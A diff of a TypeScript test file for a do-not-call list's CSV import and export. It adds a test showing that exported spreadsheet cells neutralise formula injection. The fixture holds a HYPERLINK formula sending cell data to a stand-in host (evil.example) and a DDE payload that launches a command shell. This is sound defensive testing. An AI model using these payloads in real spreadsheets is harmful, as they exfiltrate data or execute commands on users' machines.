@@ -1,4 +1,4 @@
-import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { PassThrough } from 'node:stream';
@@ -7,6 +7,7 @@ import { exportDncCsv, importDncCsv } from '../../src/import/dnc-csv.js';
 import { createCampaign } from '../../src/store/repositories/campaigns.js';
 import { addDncFromCall, dncTypesFor, removeDnc } from '../../src/store/repositories/dnc.js';
 import { createTestDb, type TestDb } from '../support/db.js';
+import { readRejects } from '../support/rejects.js';
 
 let t: TestDb;
 let dir: string;
@@ -21,6 +22,34 @@ afterAll(async () => {
 });
 
 describe('DNC repository and CSV', () => {
+  it('exports formulas as text and keeps good rows around a stray quote', async () => {
+    const file = join(dir, 'evil.csv');
+    await writeFile(
+      file,
+      'phone,type,reason,name\n' +
+        '2125550701,all,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",-2+3\n' +
+        '2125550702,all,@SUM(1+1),"+1+cmd|\' /C calc\'!A0"\n' +
+        '2125550703,all,"Bo"b,x\n' +
+        '2125550704,all,ok,ok\n',
+    );
+    const s = await importDncCsv(t.db, file, { defaultRegion: 'US', actor: 'test' });
+    expect(s).toMatchObject({ read: 4, added: 3, rejected: 1 });
+    const rejects = await readRejects(`${file}.rejects.csv`);
+    expect(rejects.rows.map((r) => [r.row, r.field, r.code])).toEqual([['4', 'reason', 'unreadable-csv']]);
+    const out = new PassThrough();
+    const chunks: Buffer[] = [];
+    out.on('data', (c: Buffer) => chunks.push(c));
+    await exportDncCsv(t.db, out);
+    const lines = Buffer.concat(chunks).toString('utf8').split('\n');
+    expect(lines.find((l) => l.startsWith('"+12125550701"'))).toMatch(
+      /^"\+12125550701","all","'=HYPERLINK\(""http:\/\/evil.example\/\?""&A1,""x""\)","'-2\+3","import","",/,
+    );
+    expect(lines.find((l) => l.startsWith('"+12125550702"'))).toMatch(
+      /^"\+12125550702","all","'@SUM\(1\+1\)","'\+1\+cmd\|' \/C calc'!A0","import","",/,
+    );
+    for (const p of ['+12125550701', '+12125550702', '+12125550704']) await removeDnc(t.db, p, 'test');
+  });
+
   it('imports entries, rejects bad rows with line and field, and exports them again', async () => {
     const file = join(dir, 'dnc.csv');
     await writeFile(
@@ -34,9 +63,13 @@ describe('DNC repository and CSV', () => {
     );
     const s = await importDncCsv(t.db, file, { defaultRegion: 'US', actor: 'test' });
     expect(s).toEqual({ read: 5, added: 3, rejected: 2, rejectsFile: `${file}.rejects.csv` });
-    const rejects = await readFile(`${file}.rejects.csv`, 'utf8');
-    expect(rejects).toContain('4,phone,');
-    expect(rejects).toContain('5,type,"type: ""spam"" is not one of');
+    const rejects = await readRejects(`${file}.rejects.csv`);
+    expect(rejects.mode).toBe(0o600);
+    expect(rejects.rows.map((r) => [r.row, r.field, r.code])).toEqual([
+      ['4', 'phone', 'bad-number'],
+      ['5', 'type', 'bad-type'],
+    ]);
+    expect(rejects.rows[1]?.message).toMatch(/^type: "spam" is not one of/);
     expect((await dncTypesFor(t.db, '+12125551234')).sort()).toEqual(['marketing', 'survey']);
     expect(await dncTypesFor(t.db, '+14155552671')).toEqual(['all']);
 
@@ -45,8 +78,8 @@ describe('DNC repository and CSV', () => {
     out.on('data', (c: Buffer) => chunks.push(c));
     expect(await exportDncCsv(t.db, out)).toBe(3);
     const lines = Buffer.concat(chunks).toString('utf8').trim().split('\n');
-    expect(lines[0]).toBe('phone,type,reason,name,source,added_by,created_at');
-    expect(lines[1]).toMatch(/^\+12125551234,marketing,asked on call,Alice,import,,\d{4}-/);
+    expect(lines[0]).toBe('"phone","type","reason","name","source","added_by","created_at"');
+    expect(lines[1]).toMatch(/^"\+12125551234","marketing","asked on call","Alice","import","","\d{4}-/);
   });
 
   it('an agent adds the number of the call they are on; removal is audited', async () => {
